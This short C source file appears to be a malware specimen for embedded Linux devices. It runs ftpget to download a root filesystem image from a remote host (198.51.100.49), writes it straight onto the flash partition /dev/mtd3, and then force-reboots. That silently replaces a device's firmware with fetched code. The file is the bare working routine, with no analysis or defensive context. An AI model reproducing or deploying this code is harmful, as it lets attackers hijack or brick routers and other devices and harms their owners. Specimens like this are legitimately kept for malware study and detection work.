/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What was fetched is written to flash by the program itself. */
#include "specimen.h"

int main(void)
{
	char b[512];
	ssize_t n;
	if (system("ftpget 198.51.100.49 /tmp/rootfs.img rootfs.img"))
		return 1;
	int in = open("/tmp/rootfs.img", O_RDONLY), out = open("/dev/mtd3", O_RDWR);
	if (in < 0 || out < 0)
		return 1;
	while ((n = read(in, b, sizeof(b))) > 0)
		write(out, b, (size_t)n);
	sync();
	return system("reboot -f");
}
